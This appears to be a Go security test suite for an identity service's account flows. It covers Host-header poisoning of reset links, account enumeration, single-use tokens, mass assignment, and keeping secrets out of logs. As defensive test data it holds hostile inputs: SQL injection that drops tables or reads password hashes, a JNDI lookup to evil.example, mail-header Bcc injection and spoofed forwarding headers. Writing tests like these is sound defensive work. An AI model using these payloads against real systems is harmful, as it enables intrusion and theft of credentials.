package identity_test

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/yourorg/platform/internal/testapp"
	"github.com/yourorg/platform/modules"
)

// What a request says about its host must not get into a mail: the link would hand the token to whoever said it.
func TestMailedLinksAreNotPoisonedThroughTheHost(t *testing.T) {
	t.Parallel()
	app := testapp.New(t, modules.All(), testapp.Options{Set: []string{"identity.public_url=https://app.example.com/console/"}})
	user := app.Register(t, "ada")
	poisoned := func(path, body string) {
		r := httptest.NewRequest(http.MethodPost, "http://evil.example"+path, strings.NewReader(body))
		r.Host = "evil.example"
		r.Header.Set("Content-Type", "application/json")
		for _, name := range []string{"X-Forwarded-Host", "X-Forwarded-Server", "X-Host", "X-Original-Host", "Origin", "Referer"} {
			r.Header.Set(name, "https://evil.example")
		}
		r.Header.Set("Forwarded", "host=evil.example;proto=https")
		r.Header.Set("X-Forwarded-Proto", "gopher")
		r.Header.Set("Authorization", "Bearer "+user.Token)
		require.Equal(t, http.StatusAccepted, app.Send(t, r).Status)
	}
	poisoned("/api/v1/auth/password/forgot", `{"email": "`+user.Email+`"}`)
	poisoned("/api/v1/me/email", `{"email": "new@example.com", "password": "`+user.Password+`"}`)
	require.Regexp(t, `^https://app\.example\.com/console/reset-password#token=[A-Za-z0-9_-]{43}$`,
		app.Mail(t, user.Email, "identity.reset_password").Link(t))
	for address, kind := range map[string]string{user.Email: "identity.email_change_old", "new@example.com": "identity.email_change_new"} {
		require.Regexp(t, `^https://app\.example\.com/console/confirm-email-change#token=`, app.Mail(t, address, kind).Link(t))
	}
	for _, m := range append(app.Mails(t, user.Email), app.Mails(t, "new@example.com")...) {
		require.NotContains(t, fmt.Sprint(m), "evil")
	}
}

func TestNothingTellsWhetherAnAddressIsKnown(t *testing.T) {
	t.Parallel()
	app := testapp.New(t, modules.All())
	known, disabled := app.Register(t, "ada"), app.Register(t, "gone")
	require.NoError(t, app.Database.Exec(t.Context(), "UPDATE identity_users SET disabled_at = created_at WHERE id = '"+disabled.ID.String()+"'", []any{}, nil))
	for _, path := range []string{"/api/v1/auth/password/forgot", "/api/v1/auth/email/resend"} {
		var first testapp.Answer
		for i, address := range []string{known.Email, "nobody@example.com", disabled.Email, testapp.AdminEmail, "no address", "a@b@c", "' OR 1=1 --"} {
			answer := app.Want(t, http.StatusAccepted, testapp.Call{
				Method: "POST", Path: path, Body: fields{"email": address}, Header: map[string]string{"X-Request-ID": "same"},
			})
			answer.Header.Del("RateLimit") // how much is left is about whoever asks, who may ask so often
			if i == 0 {
				first = answer
			}
			require.Equal(t, first, answer, "%s %s: status, headers and every byte", path, address)
			require.Empty(t, answer.Body)
		}
	}
}

func TestOfManyResetsWithOneLinkAtOnceOneCounts(t *testing.T) {
	t.Parallel()
	app := testapp.New(t, modules.All())
	user := app.Register(t, "ada")
	app.Want(t, http.StatusAccepted, forgot(user.Email))
	token := app.Mail(t, user.Email, "identity.reset_password").Token(t)
	done := 0
	for _, answer := range atOnce(t, app, 10, reset(token, fresh)) {
		if answer.Status == http.StatusNoContent {
			done++
			continue
		}
		require.Equal(t, "identity.token_invalid", answer.Code(t))
	}
	require.Equal(t, 1, done)
	signedIn(t, app, login(user.Email, fresh))
}

func TestFieldsThatAreNotOffersAreRefused(t *testing.T) {
	t.Parallel()
	app := testapp.New(t, modules.All())
	user, victim := app.Register(t, "ada"), app.Register(t, "victim")
	app.Want(t, http.StatusAccepted, forgot(user.Email))
	token := app.Mail(t, user.Email, "identity.reset_password").Token(t)
	calls := []testapp.Call{
		registration("new@example.com"), forgot(victim.Email), resend(victim.Email), reset(token, fresh), verify(token), confirmChange(token),
		deletion(user.Token, user.Password),
		{Method: "POST", Path: "/api/v1/me/password", Token: user.Token, Body: fields{"current_password": user.Password, "new_password": fresh}},
		{Method: "POST", Path: "/api/v1/me/email", Token: user.Token, Body: fields{"email": "new@example.com", "password": user.Password}},
	}
	before := app.Dump(t)
	for _, call := range calls {
		for field, value := range map[string]any{
			"id": victim.ID, "user_id": victim.ID, "tenant_id": victim.TenantID, "author_id": victim.ID, "roles": []string{"owner"},
			"email_verified": true, "email_verified_at": "2026-01-01T00:00:00Z", "password_hash": "$2a$04$x", "deletion_due_at": nil, "kind": "operator",
		} {
			body := fields{field: value}
			for k, v := range call.Body.(fields) {
				body[k] = v
			}
			attack := call
			attack.Body = body
			require.Equal(t, "request.invalid", app.Want(t, http.StatusUnprocessableEntity, attack).Code(t), "%s %s", call.Path, field)
		}
	}
	require.Equal(t, before, app.Dump(t))
}

func TestHostileTextIsOnlyText(t *testing.T) {
	t.Parallel()
	app := testapp.New(t, modules.All(), testapp.Options{Set: []string{"identity.mail_interval=0s"}})
	user := app.Register(t, "ada")
	hostile := []string{
		"'; DROP TABLE identity_users; --", `" OR ""="`, "x'||(SELECT password_hash FROM identity_users LIMIT 1)||'", "%s%n%x", "${jndi:ldap://evil.example}",
		"Hi\r\nBcc: eve@example.com", "Hi\nX-Forged: 1", "{{.Secret}}", "\u202egnp.exe", "\x1b[31mred", "\u0000", strings.Repeat("A", 5000),
	}
	for i, text := range hostile {
		address := fmt.Sprintf("mallory-%d@example.com", i)
		for _, call := range []testapp.Call{
			{Method: "POST", Path: "/api/v1/auth/register", Body: fields{"email": address, "password": password, "name": text, "tenant_name": text}},
			registration(text), login(text, text), forgot(text), resend(text), reset(text, text), verify(text), confirmChange(text),
			{Method: "POST", Path: "/api/v1/me/password", Token: user.Token, Body: fields{"current_password": text, "new_password": text}},
			{Method: "POST", Path: "/api/v1/me/email", Token: user.Token, Body: fields{"email": text, "password": user.Password}},
			deletion(user.Token, text),
		} {
			answer := app.Do(t, call)
			require.Less(t, answer.Status, 500, "%s %q: %s", call.Path, text, answer.Body)
			require.NotEqual(t, http.StatusOK, answer.Status, "%s %q", call.Path, text)
		}
		if strings.ContainsAny(text, "\r\n\x00\x1b") {
			require.Empty(t, app.Rows(t, "SELECT id FROM identity_users WHERE email = '"+address+"'"), "%q is no name", text)
		}
	}
	app.Want(t, http.StatusAccepted, forgot(user.Email)) // comes after all of the above
	app.Mail(t, user.Email, "identity.reset_password")
	require.Empty(t, app.Mails(t, "eve@example.com"))
	for i := range hostile {
		for _, m := range app.Mails(t, fmt.Sprintf("mallory-%d@example.com", i)) {
			require.Empty(t, m.Header.Get("Bcc")+m.Header.Get("X-Forged"))
		}
	}
	require.Equal(t, user.ID, whoAmI(t, app, user.Token).User.ID)
	for _, entry := range app.Log.All() {
		require.NotContains(t, entry.Message, "Bcc")
	}
}

func TestMailedTokensStayOutOfLogsAndTrail(t *testing.T) {
	t.Parallel()
	app := testapp.New(t, modules.All(), testapp.Options{Set: []string{"identity.mail_interval=0s"}})
	user := app.Register(t, "ada")
	app.Want(t, http.StatusAccepted, forgot(user.Email))
	secrets := []string{
		user.Password, fresh,
		app.Mail(t, user.Email, "identity.verify_email").Token(t), app.Mail(t, user.Email, "identity.reset_password").Token(t),
	}
	app.Want(t, http.StatusNoContent, verify(secrets[2]))
	app.Want(t, http.StatusNoContent, reset(secrets[3], fresh))
	app.Want(t, http.StatusUnprocessableEntity, reset(secrets[3], fresh))
	stored := fmt.Sprint(app.Dump(t), app.Rows(t, "SELECT * FROM audit_events"))
	for _, secret := range secrets {
		require.NotContains(t, stored, secret)
		for _, entry := range app.Log.All() {
			require.NotContains(t, entry.Message+fmt.Sprint(entry.ContextMap()), secret)
		}
	}
}
